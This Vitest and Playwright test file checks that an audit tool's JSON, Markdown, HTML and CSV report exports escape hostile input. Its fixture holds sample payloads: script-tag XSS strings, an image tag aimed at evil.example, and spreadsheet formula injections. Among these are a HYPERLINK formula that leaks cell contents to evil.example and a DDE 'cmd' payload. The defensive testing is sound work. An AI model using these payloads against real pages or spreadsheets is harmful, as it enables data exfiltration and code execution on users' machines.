import { existsSync } from 'node:fs';
import { chromium, type Browser, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { exportFormats, exportReport } from '../../src/domain/audit/export.js';
import { gapFingerprint, gapIdOf, severityOf } from '../../src/domain/gaps/gap.js';
import { auditReportSchema, overallStatusOf, scoreOf, summaryOf, type AuditReport, type ReportGap, type TargetResult } from '../../src/domain/audit/report.js';

// Strings a probed system or a hand-written inventory can put into a report.
const hostileTargetId = `edge-"cdn"<script>alert('id')</script>&co`;
const hostileComponent = 'edge, "cdn" & <b>friends</b>';
const pipedTitle = 'Certificate names the host | wildcard, "edge" <i>&amp;</i>\nsecond line';
const injectedImage = '<img src="http://evil.example/pixel.png"> CN=*.evil.example';
const probeError = `probe crashed: <script>alert("q")</script> & 'boom'`;

type Unmet = { check: string; title: string; expected: string; observed: string; gapType: ReportGap['type'] };
type Plan = Pick<TargetResult, 'id' | 'kind' | 'component' | 'criticality' | 'durationMs'> & {
  met?: string[];
  unmet?: Unmet[];
  error?: string;
};

/** How each gap of the fixture came about in this audit, by target and check. */
const changes: Record<string, { change: ReportGap['change']; count: number; firstSeenAt: string }> = {
  'fleet-redis/auth': { change: 'new', count: 1, firstSeenAt: '2026-11-26T08:15:02.000Z' },
  'fleet-redis/eviction-policy': { change: 'recurring', count: 6, firstSeenAt: '2026-11-20T08:15:01.000Z' },
  'fleet-redis/memory': { change: 'reopened', count: 3, firstSeenAt: '2026-11-02T08:15:03.000Z' },
  'fleet-redis/aof': { change: 'recurring', count: 2, firstSeenAt: '2026-11-25T08:15:01.000Z' },
  'payments-db/latency': { change: 'recurring', count: 4, firstSeenAt: '2026-11-23T08:15:04.000Z' },
  [`${hostileTargetId}/hostname`]: { change: 'new', count: 1, firstSeenAt: '2026-11-26T08:15:02.500Z' },
  [`${hostileTargetId}/days-left`]: { change: 'reopened', count: 5, firstSeenAt: '2026-10-01T08:15:00.000Z' },
  'flag-auto-remediation/flag': { change: 'new', count: 1, firstSeenAt: '2026-11-26T08:15:02.700Z' },
};

const plans: Plan[] = [
  { id: 'api-gateway', kind: 'http', component: 'gateway', criticality: 'critical', durationMs: 182.4, met: ['status', 'latency', 'json.status'] },
  {
    id: 'fleet-redis',
    kind: 'redis',
    component: 'bedrock-support',
    criticality: 'critical',
    durationMs: 14,
    met: ['latency'],
    unmet: [
      { check: 'auth', title: 'Redis requires a password', expected: 'requirepass set', observed: '+no password', gapType: 'security_vulnerability' },
      { check: 'eviction-policy', title: 'Redis never evicts queue keys', expected: 'noeviction', observed: '@SUM(1+1)', gapType: 'configuration_drift' },
      { check: 'memory', title: 'Redis has memory headroom', expected: '< 80% of maxmemory', observed: '\t=0.97*100', gapType: 'performance_issue' },
      { check: 'aof', title: 'Redis keeps jobs across restarts (AOF)', expected: 'aof on', observed: '\r=cmd|" /C calc"!A0', gapType: 'configuration_drift' },
    ],
  },
  {
    id: 'payments-db',
    kind: 'tcp',
    component: 'payments',
    criticality: 'high',
    durationMs: 2310.7,
    unmet: [{ check: 'latency', title: 'payments-db accepts connections quickly', expected: '< 1000 ms', observed: '2310 ms\nover budget', gapType: 'performance_issue' }],
  },
  {
    id: hostileTargetId,
    kind: 'tls',
    component: hostileComponent,
    criticality: 'medium',
    durationMs: 96,
    met: ['handshake'],
    unmet: [
      { check: 'hostname', title: pipedTitle, expected: 'CN=edge.example.com', observed: injectedImage, gapType: 'security_vulnerability' },
      { check: 'days-left', title: 'Certificate valid for 14 days more', expected: '>= 14 days\r(the renewal window)', observed: '-3 days', gapType: 'configuration_drift' },
    ],
  },
  { id: 'queue-infrastructure-auditor', kind: 'queue', component: 'infrastructure-auditor', criticality: 'high', durationMs: 5000, error: probeError },
  {
    id: 'flag-auto-remediation',
    kind: 'feature-flag',
    component: 'implementation-support',
    criticality: 'low',
    durationMs: 0.8,
    unmet: [{ check: 'flag', title: 'auto-remediation is on', expected: 'true', observed: '=HYPERLINK("http://evil.example/?q="&A1,"open")', gapType: 'configuration_drift' }],
  },
  { id: 'dns-api', kind: 'dns', component: 'gateway', criticality: 'medium', durationMs: 3, met: ['resolves'] },
];

function targetOf(p: Plan): TargetResult {
  const met = (p.met ?? []).map((check) => ({ check, title: `${check} as expected`, expected: 'ok', observed: 'ok', met: true, gapType: 'broken_integration' as const }));
  const unmet = (p.unmet ?? []).map((u) => ({ ...u, met: false }));
  const base = { id: p.id, kind: p.kind, component: p.component, criticality: p.criticality, durationMs: p.durationMs, configHash: '0123456789abcdef', probedAt: '2026-11-30T08:00:00.000Z' };
  if (p.error !== undefined) {
    return { ...base, status: 'error', reach: { reachable: false, cause: 'timeout', detail: 'no answer within 5000 ms' }, observations: [], error: p.error };
  }
  return { ...base, status: unmet.length > 0 ? 'fail' : 'pass', reach: { reachable: true }, observations: [...met, ...unmet] };
}

/** A comprehensive audit of seven targets (pass, fail, error), eight gaps of every change kind, hostile strings throughout. */
function buildReport(): AuditReport {
  const targets = plans.map(targetOf);
  const gaps: ReportGap[] = plans.flatMap((p) =>
    (p.unmet ?? []).map((u) => {
      const seen = changes[`${p.id}/${u.check}`];
      if (!seen) {
        throw new Error(`fixture: no change for ${p.id}/${u.check}`);
      }
      const fingerprint = gapFingerprint({ source: 'audit', subject: p.id, check: u.check, type: u.gapType });
      return {
        id: gapIdOf(fingerprint),
        fingerprint,
        type: u.gapType,
        severity: severityOf(u.gapType, p.criticality),
        status: 'detected',
        title: u.title,
        subject: p.id,
        check: u.check,
        components: [p.component],
        evidence: { expected: u.expected, observed: u.observed },
        count: seen.count,
        firstSeenAt: seen.firstSeenAt,
        lastSeenAt: '2026-11-26T08:15:05.000Z',
        change: seen.change,
      };
    }),
  );
  const score = scoreOf(targets);
  return auditReportSchema.parse({
    auditId: 'audit-42',
    type: 'comprehensive',
    trigger: { by: 'ops-key', reason: 'daily check, after the "edge" | cdn change', priority: 'high' },
    startedAt: '2026-11-26T08:15:00.000Z',
    finishedAt: '2026-11-26T08:15:05.200Z',
    durationMs: 5200,
    inventory: { version: 3, source: 'file' },
    status: overallStatusOf(targets, gaps),
    score,
    summary: summaryOf(targets, gaps),
    targets,
    gaps,
    resolved: [
      { id: 'gap-00aa11bb22cc33dd', title: 'api-gateway answers 200', subject: 'api-gateway' },
      { id: 'gap-44ee55ff66007711', title: 'Old | gap <i>"x"</i> & more', subject: 'dns-api' },
    ],
    trend: { previousAuditId: 'audit-41', previousScore: 70, scoreDelta: score - 70, newGaps: 3, resolvedGaps: 2 },
    recommendations: [
      { priority: 'critical', gapId: gaps[0]?.id ?? '', text: 'Set requirepass on the fleet Redis and rotate the clients\' credentials.' },
      { priority: 'high', gapId: gaps[5]?.id ?? '', text: 'Renew the edge certificate | check the SAN list <script>alert(1)</script>' },
      { priority: 'medium', gapId: gaps[4]?.id ?? '', text: 'Add a read replica or raise the payments-db pool size.' },
    ],
    narrative: {
      text: 'The fleet Redis has no password: fix that first.\n\nThe edge certificate <script>alert("n")</script> & its | pipe expire soon.',
      path: 'local',
      model: 'local-template',
      reason: 'no_remote_path',
      latencyMs: 2,
      costUsd: 0,
    },
  });
}

const unmetCount = (r: AuditReport) => r.targets.reduce((n, t) => n + t.observations.filter((o) => !o.met).length, 0);

describe('export formats', () => {
  it('lists the formats ?format= accepts', () => {
    expect(exportFormats).toEqual(['json', 'markdown', 'html', 'csv']);
  });

  it('names each file after the audit and says its type and charset', () => {
    const report = buildReport();
    expect(exportReport(report, 'json')).toMatchObject({ contentType: 'application/json; charset=utf-8', fileName: 'audit-42.json' });
    expect(exportReport(report, 'markdown')).toMatchObject({ contentType: 'text/markdown; charset=utf-8', fileName: 'audit-42.md' });
    expect(exportReport(report, 'html')).toMatchObject({ contentType: 'text/html; charset=utf-8', fileName: 'audit-42.html' });
    expect(exportReport(report, 'csv')).toMatchObject({ contentType: 'text/csv; charset=utf-8', fileName: 'audit-42-findings.csv' });
  });

  it('keeps a strange audit id out of the file name', () => {
    const report = { ...buildReport(), auditId: '../audit-7/"x";\r\nSet-Cookie: a=b' };
    for (const format of exportFormats) {
      const { fileName } = exportReport(report, format);
      expect(fileName).toMatch(/^[A-Za-z0-9_-][A-Za-z0-9._-]*$/);
      expect(fileName).not.toContain('..');
    }
  });
});

describe('JSON export', () => {
  it('is the report itself, pretty, and parses back through the schema', () => {
    const report = buildReport();
    const { body } = exportReport(report, 'json');
    expect(body).toContain('\n  "auditId": "audit-42",\n');
    expect(auditReportSchema.parse(JSON.parse(body))).toEqual(report);
  });
});

/** A table row's cells, split where a `|` is not escaped, as GitHub's table extension does. */
function markdownCells(line: string): string[] {
  const cells: string[] = [];
  let cell = '';
  for (let i = 0; i < line.length; i += 1) {
    const c = line.charAt(i);
    if (c === '\\') {
      cell += c + line.charAt(i + 1);
      i += 1;
    } else if (c === '|') {
      cells.push(cell.trim());
      cell = '';
    } else {
      cell += c;
    }
  }
  cells.push(cell.trim());
  // A row starts and ends with a pipe: drop the empty text outside them.
  return cells.slice(1, -1);
}

/** The tables of a Markdown text, by the heading above each: its rows' cells, the header and delimiter rows included. */
function markdownTables(md: string): Map<string, string[][]> {
  const tables = new Map<string, string[][]>();
  let heading = '';
  for (const line of md.split('\n')) {
    if (line.startsWith('#')) {
      heading = line.replace(/^#+ /, '');
    } else if (line.startsWith('|')) {
      tables.set(heading, [...(tables.get(heading) ?? []), markdownCells(line)]);
    }
  }
  return tables;
}

/** What a Markdown renderer shows for an escaped inline text: backslash escapes undone, `<br>` as a line break. */
const markdownText = (cell: string | undefined) => cell?.replace(/\\(.)|<br>/g, (_, escaped: string | undefined) => escaped ?? '\n');

describe('Markdown export', () => {
  const report = buildReport();
  const { body } = exportReport(report, 'markdown');

  it('opens with the audit, its status, the score with its formula, and the trend', () => {
    expect(body.startsWith('# Audit report audit-42\n')).toBe(true);
    expect(body).toContain('\n- **Type:** comprehensive\n');
    expect(body).toContain('\n- **When:** 2026-11-26T08:15:00.000Z to 2026-11-26T08:15:05.200Z (5200 ms)\n');
    expect(body).toContain('\n- **Status:** unhealthy\n');
    // Weights 8+8+4+2+4+1+2 = 29 audited, api-gateway (8) and dns-api (2) passed.
    expect(body).toContain('\n- **Score:** 34/100 = 100 × Σ w(passed) / Σ w(audited) = 100 × 10 / 29, weights critical 8, high 4, medium 2, low 1;');
    expect(body).toContain('\n- **Trend:** since audit-41: score 70 → 34 (-36); 3 new gaps, 2 resolved\n');
  });

  it('has a table of the targets and one of the gaps per severity, each row with as many cells as the header', () => {
    const tables = markdownTables(body);
    expect([...tables.keys()]).toEqual(['Targets (7)', 'Critical (1)', 'High (4)', 'Medium (1)', 'Low (2)', 'Resolved gaps (2)', 'Recommendations (3)']);
    const rowCounts = [...tables.values()].map((rows) => rows.length - 2);
    expect(rowCounts).toEqual([7, 1, 4, 1, 2, 2, 3]);
    for (const rows of tables.values()) {
      const width = rows[0]?.length;
      expect(rows.every((r) => r.length === width)).toBe(true);
    }
    expect(tables.get('Targets (7)')?.[0]).toEqual(['Target', 'Kind', 'Component', 'Criticality', 'Status', 'Time (ms)', 'Unmet checks']);
    expect(tables.get('High (4)')?.[0]).toEqual(['Gap', 'Type', 'Title', 'Expected', 'Observed', 'Count', 'First seen', 'Last seen', 'Change']);
  });

  it('escapes | and line breaks in cells, so the hostile strings read back whole', () => {
    const tables = markdownTables(body);
    const targets = tables.get('Targets (7)') ?? [];
    const edge = targets.find((r) => markdownText(r[0]) === hostileTargetId);
    expect(edge?.map(markdownText)).toEqual([hostileTargetId, 'tls', hostileComponent, 'medium', 'fail', '96', 'hostname, days-left']);
    const error = targets.find((r) => r[0] === 'queue-infrastructure-auditor');
    expect(markdownText(error?.[4])).toBe('error');
    expect(markdownText(error?.[6])).toBe(`unreachable (timeout): no answer within 5000 ms; probe error: ${probeError}`);
    const hostname = tables.get('High (4)')?.find((r) => markdownText(r[2]) === pipedTitle);
    expect(hostname?.map(markdownText).slice(1)).toEqual(['security_vulnerability', pipedTitle, 'CN=edge.example.com', injectedImage, '1', '2026-11-26T08:15:02.500Z', '2026-11-26T08:15:05.000Z', 'new']);
    expect(body).toContain('Certificate names the host \\| wildcard');
    expect(body).not.toContain(pipedTitle.split('\n')[0]);
  });

  it('shows the change of every gap: new, recurring and reopened', () => {
    const changes = [...markdownTables(body)].filter(([heading]) => /^(Critical|High|Medium|Low) /.test(heading)).flatMap(([, rows]) => rows.slice(2).map((r) => r[8]));
    expect(changes.sort()).toEqual(['new', 'new', 'new', 'recurring', 'recurring', 'recurring', 'reopened', 'reopened']);
  });

  it('lists the resolved gaps, the recommendations and the narrative', () => {
    const resolved = markdownTables(body).get('Resolved gaps (2)')?.slice(2).map((r) => r.map(markdownText));
    expect(resolved).toEqual(report.resolved.map((r) => [r.id, r.title, r.subject]));
    const recommendations = markdownTables(body).get('Recommendations (3)');
    expect(recommendations?.slice(2).map((r) => r.map(markdownText))).toEqual(report.recommendations.map((r) => [r.priority, r.text, r.gapId]));
    expect(recommendations?.[3]?.[1]).toBe('Renew the edge certificate \\| check the SAN list \\<script\\>alert(1)\\</script\\>');
    const section = (heading: string) => body.split(`## ${heading}\n\n`)[1]?.split('\n\n## ')[0];
    expect(section('Narrative')).toBe(
      '> The fleet Redis has no password: fix that first.\n>\n> The edge certificate \\<script\\>alert("n")\\</script\\> \\& its \\| pipe expire soon.\n\nWritten through the local path, model local-template (no_remote_path).\n',
    );
  });

  it('says so when there is nothing to compare with, no gap and no narrative', () => {
    const first = exportReport(
      {
        ...report,
        gaps: [],
        resolved: [],
        recommendations: [],
        narrative: null,
        trend: { previousAuditId: null, previousScore: null, scoreDelta: null, newGaps: 0, resolvedGaps: 0 },
      },
      'markdown',
    ).body;
    expect(first).toContain('\n- **Trend:** first audit, nothing to compare with; 0 new gaps, 0 resolved\n');
    expect(first).toContain('\n## Gaps (0)\n\nNo open gap.\n');
    expect(first).toContain('\n## Recommendations (0)\n\nNone.\n');
    expect(first).not.toContain('## Narrative');
  });

  it('leaves no tag a Markdown renderer would pass through', () => {
    expect(body).not.toMatch(/(?<!\\)<(?!br>)/);
  });
});

describe('HTML export, as text', () => {
  const report = buildReport();
  const { body } = exportReport(report, 'html');

  it('is a whole document: doctype, language, charset, title', () => {
    expect(body.startsWith('<!doctype html>\n<html lang="en">\n<head>\n<meta charset="utf-8">\n')).toBe(true);
    expect(body).toContain('<title>Audit report audit-42</title>');
    expect(body.trimEnd().endsWith('</html>')).toBe(true);
  });

  it('fetches nothing and runs nothing: no script, no URL in an attribute, no font or import in the style', () => {
    expect(body).not.toMatch(/<script/i);
    expect(body).not.toMatch(/<(link|img|iframe|object|embed|base|form)\b/i);
    const tags = body.match(/<[a-z][^>]*>/gi) ?? [];
    expect(tags.length).toBeGreaterThan(100);
    expect(tags.filter((t) => /\s(src|href|srcset|action|poster|data|background)\s*=/i.test(t))).toEqual([]);
    expect(body).not.toMatch(/url\(|@import|@font-face/i);
    expect(body).toContain(`<meta http-equiv="Content-Security-Policy" content="default-src 'none'; style-src 'unsafe-inline'">`);
  });

  it('escapes every value, quotes included', () => {
    expect(body).toContain('<td>edge-&#34;cdn&#34;&#60;script&#62;alert(&#39;id&#39;)&#60;/script&#62;&#38;co</td>');
    expect(body).toContain('<td>edge, &#34;cdn&#34; &#38; &#60;b&#62;friends&#60;/b&#62;</td>');
    expect(body).toContain('<td>Certificate names the host | wildcard, &#34;edge&#34; &#60;i&#62;&#38;amp;&#60;/i&#62;\nsecond line</td>');
    expect(body).toContain('<td>&#60;img src=&#34;http://evil.example/pixel.png&#34;&#62; CN=*.evil.example</td>');
  });
});

const executablePath = process.env.CHROMIUM_PATH ?? '/usr/bin/chromium';
// Without a browser these tests are skipped, saying why; BSM_REQUIRE_BROWSER=1 (CI) makes a missing browser fail them.
const hasBrowser = existsSync(executablePath);
const browserRequired = process.env.BSM_REQUIRE_BROWSER === '1';
if (!hasBrowser && !browserRequired) {
  process.stderr.write(`HTML export browser tests skipped: no Chromium at ${executablePath} (apt install chromium, or set CHROMIUM_PATH)\n`);
}

describe.skipIf(!hasBrowser && !browserRequired)('HTML export, in Chromium with the network cut', () => {
  const report = buildReport();
  const { body } = exportReport(report, 'html');
  let browser: Browser | undefined;
  let page: Page;
  const requests: string[] = [];
  const problems: string[] = [];

  beforeAll(async () => {
    browser = await chromium.launch({ executablePath, args: ['--no-sandbox', '--disable-gpu', '--no-first-run', '--disable-background-networking', '--disable-component-update'] });
    // Scripts on, as in a reader's browser: an injected script would run and be seen below.
    page = await browser.newPage({ javaScriptEnabled: true });
    // Every request the page makes is recorded and refused: a file read offline has none to make.
    await page.route('**/*', async (route) => {
      requests.push(route.request().url());
      await route.abort();
    });
    // A blocked load (CSP) or a script error shows here even when no request leaves.
    page.on('console', (m) => {
      if (m.type() === 'error' || m.type() === 'warning') {
        problems.push(m.text());
      }
    });
    page.on('pageerror', (e) => problems.push(e.message));
    page.on('dialog', (d) => {
      problems.push(`a script opened a dialog: ${d.message()}`);
      void d.dismiss();
    });
    await page.setContent(body, { waitUntil: 'load' });
  });

  afterAll(async () => {
    await browser?.close();
  });

  // Read through locators only: the project's TypeScript has no DOM types, so no page function touches the DOM.
  const cells = async (table: string) => Promise.all((await page.locator(`${table} tbody tr`).all()).map((row) => row.locator('td').allTextContents()));
  const colourOf = (selector: string) => page.evaluate<string>(`getComputedStyle(document.querySelector(${JSON.stringify(selector)})).color`);

  it('loads without a request, a script or a complaint', async () => {
    expect(requests).toEqual([]);
    expect(problems).toEqual([]);
    expect(await page.locator('script').count()).toBe(0);
    expect(await page.locator('img, iframe, object, embed, link, [src], [href]').count()).toBe(0);
    expect(await page.title()).toBe('Audit report audit-42');
    expect(await page.locator('html').getAttribute('lang')).toBe('en');
  });

  it('shows the hostile strings as text, in the cells where they belong', async () => {
    const targets = await cells('#targets');
    expect(targets.map((r) => r[0])).toEqual(report.targets.map((t) => t.id));
    expect(targets.find((r) => r[0] === hostileTargetId)).toEqual([hostileTargetId, 'tls', hostileComponent, 'medium', 'fail', '96', 'hostname, days-left']);
    expect(targets.find((r) => r[0] === 'queue-infrastructure-auditor')?.[6]).toBe(`unreachable (timeout): no answer within 5000 ms; probe error: ${probeError}`);
    const high = await cells('#gaps-high');
    expect(high.find((r) => r[2] === pipedTitle)?.slice(3)).toEqual(['CN=edge.example.com', injectedImage, '1', '2026-11-26T08:15:02.500Z', '2026-11-26T08:15:05.000Z', 'new']);
    expect(await page.locator('blockquote').textContent()).toBe(report.narrative?.text);
    expect(await cells('#recommendations')).toEqual(report.recommendations.map((r) => [r.priority, r.text, r.gapId]));
  });

  it('has the same tables as the Markdown export, with the same rows', async () => {
    const tables = await Promise.all((await page.locator('table').all()).map(async (t) => [await t.getAttribute('id'), await t.locator('tbody tr').count()]));
    expect(tables).toEqual([['targets', 7], ['gaps-critical', 1], ['gaps-high', 4], ['gaps-medium', 1], ['gaps-low', 2], ['resolved', 2], ['recommendations', 3]]);
    expect((await cells('#resolved')).map((r) => r[1])).toEqual(report.resolved.map((r) => r.title));
    const [labels, values] = await Promise.all([page.locator('dl.facts dt').allTextContents(), page.locator('dl.facts dd').allTextContents()]);
    const facts = labels.map((label, i) => `${label}: ${values[i]}`);
    expect(facts).toContain('Score: 34/100 = 100 × Σ w(passed) / Σ w(audited) = 100 × 10 / 29, weights critical 8, high 4, medium 2, low 1; a probe that could not run counts as not passed');
    expect(facts).toContain('Trend: since audit-41: score 70 → 34 (-36); 3 new gaps, 2 resolved');
  });

  it('colours statuses: pass green, fail red, error amber, unhealthy red', async () => {
    const statusCell = (id: string) => `#targets tbody tr:nth-child(${report.targets.findIndex((t) => t.id === id) + 1}) td:nth-child(5)`;
    const [pass, fail, error, overall] = await Promise.all([
      colourOf(statusCell('api-gateway')),
      colourOf(statusCell('payments-db')),
      colourOf(statusCell('queue-infrastructure-auditor')),
      colourOf('dl.facts dd:nth-of-type(5)'),
    ]);
    expect([pass, fail, error, overall]).toEqual(['rgb(26, 127, 55)', 'rgb(207, 34, 46)', 'rgb(154, 103, 0)', 'rgb(207, 34, 46)']);
  });
});

/** RFC 4180, strictly: records end with CRLF (the last one too), quoted fields double their quotes, no quote inside an unquoted field. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let i = 0;
  while (i < text.length) {
    const record: string[] = [];
    for (;;) {
      let field = '';
      if (text.charAt(i) === '"') {
        i += 1;
        for (;;) {
          if (i >= text.length) {
            throw new Error('a quoted field is not closed');
          }
          if (text.charAt(i) === '"') {
            if (text.charAt(i + 1) !== '"') {
              i += 1;
              break;
            }
            i += 1;
          }
          field += text.charAt(i);
          i += 1;
        }
      } else {
        while (i < text.length && !',\r\n'.includes(text.charAt(i))) {
          if (text.charAt(i) === '"') {
            throw new Error(`a quote inside an unquoted field at ${i}`);
          }
          field += text.charAt(i);
          i += 1;
        }
      }
      record.push(field);
      if (text.charAt(i) === ',') {
        i += 1;
      } else if (text.startsWith('\r\n', i)) {
        i += 2;
        break;
      } else {
        throw new Error(`expected a comma or CRLF at ${i}, found ${JSON.stringify(text.slice(i, i + 12))}`);
      }
    }
    records.push(record);
  }
  return records;
}

const columns = [
  'audit_id',
  'finding',
  'target_id',
  'kind',
  'component',
  'criticality',
  'target_status',
  'check',
  'title',
  'gap_id',
  'gap_type',
  'severity',
  'gap_status',
  'change',
  'expected',
  'observed',
  'count',
  'first_seen',
  'last_seen',
];

describe('CSV export of the findings', () => {
  const report = buildReport();
  const { body } = exportReport(report, 'csv');
  // Parsed in each test, so a body the parser refuses fails the tests, not the file's collection.
  const parsed = () => {
    const [header, ...rows] = parseCsv(body);
    return { header, rows, rowsOf: (finding: string) => rows.filter((r) => cell(r, 'finding') === finding) };
  };
  const cell = (row: string[] | undefined, column: string) => row?.[columns.indexOf(column)];

  it('has a header row and one row per finding: every unmet check, every probe that could not run, every gap', () => {
    const { header, rows, rowsOf } = parsed();
    expect(header).toEqual(columns);
    expect(rowsOf('unmet_check')).toHaveLength(unmetCount(report));
    expect(rowsOf('probe_error')).toHaveLength(1);
    expect(rowsOf('gap')).toHaveLength(report.gaps.length);
    expect(rows).toHaveLength(8 + 1 + 8);
    for (const row of rows) {
      expect(row).toHaveLength(columns.length);
      expect(cell(row, 'audit_id')).toBe('audit-42');
    }
  });

  it('round-trips fields with commas, quotes and line breaks', () => {
    const { rows, rowsOf } = parsed();
    const hostname = rows.find((r) => cell(r, 'finding') === 'gap' && cell(r, 'check') === 'hostname');
    expect(cell(hostname, 'title')).toBe(pipedTitle);
    expect(cell(hostname, 'target_id')).toBe(hostileTargetId);
    expect(cell(hostname, 'component')).toBe(hostileComponent);
    expect(cell(hostname, 'observed')).toBe(injectedImage);
    expect(cell(hostname, 'change')).toBe('new');
    expect(cell(hostname, 'first_seen')).toBe('2026-11-26T08:15:02.500Z');
    // Line breaks alone are reason enough to quote.
    expect(rows.filter((r) => cell(r, 'check') === 'latency').map((r) => cell(r, 'observed'))).toEqual(Array(2).fill('2310 ms\nover budget'));
    expect(rows.filter((r) => cell(r, 'check') === 'days-left').map((r) => cell(r, 'expected'))).toEqual(Array(2).fill('>= 14 days\r(the renewal window)'));
    const error = rowsOf('probe_error')[0];
    expect(cell(error, 'observed')).toBe(probeError);
    expect(cell(error, 'target_status')).toBe('error');
  });

  it('links each unmet check to its gap', () => {
    const { rowsOf } = parsed();
    for (const row of rowsOf('unmet_check')) {
      const gap = report.gaps.find((g) => g.id === cell(row, 'gap_id'));
      expect(gap?.subject).toBe(cell(row, 'target_id'));
      expect(gap?.check).toBe(cell(row, 'check'));
      expect(cell(row, 'severity')).toBe(gap?.severity);
    }
  });

  it('neutralises cells a spreadsheet would run as a formula', () => {
    const { rows } = parsed();
    const observed = (check: string) => rows.filter((r) => cell(r, 'check') === check).map((r) => cell(r, 'observed'));
    expect(observed('flag')).toEqual(Array(2).fill(`'=HYPERLINK("http://evil.example/?q="&A1,"open")`));
    expect(observed('auth')).toEqual(Array(2).fill(`'+no password`));
    expect(observed('eviction-policy')).toEqual(Array(2).fill(`'@SUM(1+1)`));
    expect(observed('memory')).toEqual(Array(2).fill(`'\t=0.97*100`));
    expect(observed('aof')).toEqual(Array(2).fill(`'\r=cmd|" /C calc"!A0`));
    expect(observed('days-left')).toEqual(Array(2).fill(`'-3 days`));
    for (const value of rows.flat()) {
      expect(value).not.toMatch(/^[=+\-@\t\r]/);
    }
  });

  it('ends every record with CRLF and has no bare line feed between records', () => {
    // The header, the unmet checks, the one probe error, the gaps.
    const records = 1 + unmetCount(report) + 1 + report.gaps.length;
    const outsideQuotes = body.replace(/"(?:[^"]|"")*"/g, '""');
    expect(outsideQuotes).not.toMatch(/\r(?!\n)|(?<!\r)\n/);
    expect(outsideQuotes.split('\r\n')).toHaveLength(records + 1);
    expect(body.endsWith('\r\n')).toBe(true);
  });
});
